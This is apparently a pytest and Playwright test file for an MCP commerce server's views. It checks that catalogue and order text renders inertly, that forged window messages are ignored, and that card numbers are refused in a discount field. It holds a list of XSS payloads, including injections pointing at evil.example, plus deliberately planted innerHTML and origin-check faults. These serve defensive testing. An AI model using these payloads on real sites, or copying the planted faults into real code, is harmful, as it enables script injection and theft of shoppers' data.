"""What a catalogue or a shopper may put into a view, and that it stays text: nothing runs, leaves or is taken of a card."""

from types import SimpleNamespace
from typing import Any, cast

import pytest
from playwright.async_api import expect

from mcp_server.apps import pages
from tests.commerce_api.purchases import KETTLE, lines, ready
from tests.mcp_server.apps.host import Host, as_json, needs_host
from tests.mcp_server.serving import Site

pytestmark = [pytest.mark.anyio, needs_host]

MARK = "window.hit=1"
HOSTILE = {
    "script": f"<script>{MARK}</script>",
    "image": f"<img src=x onerror={MARK}>",
    "svg": f"<svg/onload={MARK}>",
    "breaking out of an attribute": f"\"'><svg onload={MARK}>",
    "breaking out of an element": f"</h2></li></main><img src=x onerror={MARK}>",
    "breaking out of the script": f"</script><script>{MARK}</script>",
    "breaking out of the option": f"</option></select><img src=x onerror={MARK}>",
    "an address": f"javascript:{MARK}",
    "a frame": f"<iframe srcdoc='<script>parent.{MARK}</script>'></iframe>",
    "a form": "<form action=https://evil.example><input name=card>",
    "a style": "<style>@import url(https://evil.example/x.css);</style><link rel=stylesheet href=https://evil.example>",
    "a base": "<base href=https://evil.example/><meta http-equiv=refresh content=0;url=https://evil.example>",
    "a template": "{{constructor.constructor('window.hit=1')()}} ${window.hit=1} <%= 7*7 %>",
    "entities": f"&lt;img src=x onerror={MARK}&gt; &#60;b&#62;",
    "a prototype": "__proto__",
    "a comment": "<!--><!--[if true]><b>",
}
DIRECTION = "\u202e\u2066kettle\u2069\u202c"
STRINGS_KEPT = {"currency", "status", "type", "kind", "state", "continue_url", "placed_at", "expires_at", "asked_at"}
CARD = "4242424242424242"


def spoiled(value: Any, text: str, name: str = "") -> Any:
    """Content with the text in place of every string that the view does not choose its own words by."""
    if isinstance(value, dict):
        return {key: spoiled(each, text, key) for key, each in value.items()}
    if isinstance(value, list):
        return [spoiled(each, text, name) for each in value]
    return f"{text}" if isinstance(value, str) and name not in STRINGS_KEPT else value


async def contents(site: Site, host: Host) -> dict[str, Any]:
    """A structured answer for each view, with everything in it that a view shows."""
    call = host.client.call_tool
    found = as_json(await call("search_catalog", {"query": "kettle", "limit": 2}))
    given = ready(lines=lines() + lines(KETTLE, 1), discount_codes=["WELCOME5", "NO-SUCH"])
    made = as_json(await call("create_checkout", given))
    checkout_id = made["structuredContent"]["checkout_id"]
    await call("complete_checkout", {"checkout_id": checkout_id})
    await site.world.commerce.payments.capture_link(site.world.brand, checkout_id)
    site.world.vault.capture()
    order_id = as_json(await call("get_checkout", {"checkout_id": checkout_id}))["structuredContent"]["order_id"]
    await call("request_order_change", {"order_id": order_id, "kind": "return"})
    order = as_json(await call("get_order", {"order_id": order_id}))
    return {"search_catalog": found, "create_checkout": made, "get_order": order}


async def test_whatever_stands_in_a_record_is_shown_as_it_is_written(host: Host, site: Site) -> None:
    for tool, told in (await contents(site, host)).items():
        plain = await (await host.show(tool, {}, result=told)).locator("main *").count()
        for name, text in HOSTILE.items():
            content = spoiled(told["structuredContent"], text)
            view = await host.show(tool, {}, result={**told, "structuredContent": content})
            await expect(view.locator("bdi").first).to_have_text(text)
            assert await view.locator("main *").count() == plain, (tool, name)
            assert await host.ask("() => window.hit") is None, (tool, name)
            assert await view.locator("script, img, iframe, form, a, link, base, object").count() == 1, (tool, name)
    assert host.complaints == []
    assert len(host.page.frames) == 2


async def test_a_name_cannot_turn_what_stands_around_it(host: Host, site: Site) -> None:
    told = (await contents(site, host))["search_catalog"]
    view = await host.show(
        "search_catalog", {}, result={**told, "structuredContent": spoiled(told["structuredContent"], DIRECTION)}
    )
    assert await view.locator("bdi").first.text_content() == "kettle"


def with_html_of_titles(monkeypatch: pytest.MonkeyPatch) -> None:
    """The fault that the corpus is for."""
    honest = pages._script()
    naive = (
        'const named = (text) => { const made = document.createElement("bdi"); made.innerHTML = text; return made; };'
    )
    planted = honest.replace('const named = (text) => element("bdi", {}, plain(text));', naive)
    assert planted != honest
    monkeypatch.setattr(pages, "_script", lambda: planted)


async def test_planted_fault_titles_as_html_are_stopped_by_the_view_s_own_policy(
    host: Host, site: Site, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The second lock alone: a host's own policy would let it run."""
    with_html_of_titles(monkeypatch)
    told = (await contents(site, host))["search_catalog"]
    content = spoiled(told["structuredContent"], HOSTILE["image"])
    pages.page.cache_clear()
    view = await host.show("search_catalog", {}, result={**told, "structuredContent": content})
    await expect(view.get_by_role("alert")).to_contain_text("cannot be shown here")
    assert await host.ask("() => window.hit") is None
    monkeypatch.setattr(pages, "_policy", lambda script, theme: "img-src 'none'")
    pages.page.cache_clear()
    await host.show("search_catalog", {}, result={**told, "structuredContent": content})
    await host.page.frames[-1].wait_for_function("() => window.hit === 1")  # neither lock: the corpus is alive
    pages.page.cache_clear()


async def test_only_the_frame_around_a_view_is_heard(host: Host) -> None:
    view = await host.show("create_checkout", ready())
    await expect(view.get_by_role("heading", level=1)).to_have_text("Ready to pay")
    forged = {"jsonrpc": "2.0", "method": "ui/notifications/tool-cancelled", "params": {}}
    await host.ask("forged => window.postMessage(forged, '*')", forged)  # from the view's own window
    await host.ask("() => new Promise((done) => setTimeout(done))")
    await expect(view.get_by_role("heading", level=1)).to_have_text("Ready to pay")
    await host.page.evaluate("forged => window.frames[0].postMessage(forged, '*')", forged)
    await expect(view.get_by_role("alert")).to_contain_text("This was stopped")


async def test_planted_fault_a_view_that_hears_everybody(host: Host, monkeypatch: pytest.MonkeyPatch) -> None:
    honest = pages._script()
    planted = honest.replace("source !== window.parent || ", "")
    assert planted != honest
    monkeypatch.setattr(pages, "_script", lambda: planted)
    pages.page.cache_clear()
    view = await host.show("create_checkout", ready())
    pages.page.cache_clear()
    await expect(view.get_by_role("heading", level=1)).to_have_text("Ready to pay")
    await host.ask("() => window.postMessage({ jsonrpc: '2.0', method: 'ui/notifications/tool-cancelled' }, '*')")
    await expect(view.get_by_role("alert")).to_contain_text("This was stopped")


async def test_no_field_takes_a_card(host: Host, site: Site) -> None:
    """One field takes text. What has as many digits as a card leaves it again, however it came there, and goes nowhere."""
    for tool, told in (await contents(site, host)).items():
        view = await host.show(tool, {}, result=told)
        await expect(view.locator("h1")).to_be_visible()
        fields = await view.locator("input, textarea, [contenteditable]").evaluate_all(
            "all => all.map((one) => one.type)"
        )
        assert set(fields) <= {"radio", "text"}, tool
        assert fields.count("text") == (tool == "create_checkout")


@pytest.mark.parametrize("written", ["plain", "spaced", "dashed", "full width", "arabic", "mixed"])
async def test_a_card_number_in_the_code_field_is_refused_before_it_leaves(host: Host, written: str) -> None:
    groups = ["4242"] * 4
    text = {
        "plain": CARD,
        "spaced": " ".join(groups),
        "dashed": "-".join(groups),
        "full width": "".join(chr(0xFF10 + int(digit)) for digit in CARD),
        "arabic": "".join(chr(0x0660 + int(digit)) for digit in CARD),
        "mixed": f"CODE{CARD[:8]}x{CARD[8:]}",
    }[written]
    view = await host.show("create_checkout", ready())
    field = view.get_by_label("Discount code")
    await field.fill(text)
    await expect(view.get_by_role("alert")).to_contain_text("A card is entered on the payment page alone")
    await expect(field).to_have_value("")
    await view.get_by_role("button", name="Apply").click()
    await field.focus()
    await host.page.keyboard.type(text)
    await host.page.keyboard.press("Enter")
    await expect(field).to_have_value("")  # what was typed behind the last digit taken did not land there either
    assert host.called == []
    assert host.remembered == []


async def test_planted_fault_a_field_that_keeps_what_is_typed(host: Host, monkeypatch: pytest.MonkeyPatch) -> None:
    """The server refuses it all the same: the page's own lock is the first of two."""
    honest = pages._script()
    planted = honest.replace("const cardDigits = 13;", "const cardDigits = 1000;")
    assert planted != honest
    monkeypatch.setattr(pages, "_script", lambda: planted)
    pages.page.cache_clear()
    view = await host.show("create_checkout", ready())
    pages.page.cache_clear()
    await view.get_by_label("Discount code").fill(CARD)
    await view.get_by_role("button", name="Apply").click()
    await expect(view.get_by_role("alert")).to_be_visible()
    assert [call["arguments"]["discount_codes"] for call in host.called] == [[CARD]]


async def test_saved_cards_are_brand_and_last_four_and_no_more(host: Host, site: Site) -> None:
    content = {
        "methods": [{"brand": "visa", "last4": "4242", "saved_at": "2026-11-18T11:36:40.000Z", "token": "tok_x"}]
    }

    async def saved(tool: str, arguments: dict[str, Any]) -> dict[str, Any]:
        return {"content": [], "structuredContent": content}

    view = await host.show("create_checkout", ready())
    host.client = cast(Any, SimpleNamespace(call_tool=saved))
    await view.get_by_role("button", name="Show my saved cards").click()
    cards = view.get_by_role("region", name="Saved cards")
    await expect(cards.get_by_role("listitem")).to_have_text(["visa ending 4242"])
    await expect(cards).not_to_contain_text("tok_x")
    assert await cards.get_by_role("button").count() == 0  # shown, not chosen
